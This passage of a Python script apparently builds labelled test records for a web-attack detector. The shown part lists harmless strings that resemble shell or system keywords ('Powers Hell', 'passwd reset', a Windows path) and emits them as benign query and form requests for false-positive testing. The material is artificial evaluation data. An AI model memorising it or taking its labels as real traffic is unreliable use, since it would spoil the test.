    "For if and when the office reopens",
    "system design interview prep",
    "The Sound of Silence, cover by the Echo band",
    "environ and bio-diversity report",
    "include the header logo in the invoice",
    "page 42 of the handbook",
]
SEARCHES = [
    "O'Brien", "Jean-Luc Picard", "Shell", "Powers Hell", "Java Smith", "Process Engineering",
    "Runtime Terror", "Cat Stevens", "Ping Wang", "Dir Street", "Sys Admin", "Command Center",
    "Magic Johnson", "Class Action LLC", "Log Cabin Inn", "Wild Card Games", "History Channel",
    "Alias Grace", "12 Shell Road, Bristol", "4 Pipe Lane, Leeds", "Windows Ltd, Unit 7",
    "Bash Street Kids", "Upload Center", "Remote Worker", "Path Finder Inc.", "File Street 9",
    "Includes VAT", "etc", "passwd reset", "/docs/getting-started", "C:\\Users\\ann\\Documents",
    "cmd key shortcuts", "for if else", "serialization", "Rumi's poetry", "Ñandú café",
]


def benign() -> Iterator[dict[str, Any]]:
    prefix = f"{NAME}-benign"
    n = yield from chat_and_bio(SLACK_TEXTS, prefix)
    n = yield from links_and_prose(PUBLIC_URLS, PROSE, prefix, n)
    for s in SEARCHES:
        n += 1
        yield {**_get(_query("/api/users", [("q", s), ("page", "1")])), "id": f"{prefix}-search-{n:04d}",
               "category": "benign", "placement": "query"}
        n += 1
        yield {**prose_request(s), "id": f"{prefix}-name-{n:04d}", "category": "benign", "placement": "form"}


if __name__ == "__main__":
    print_records(attacks(), benign())
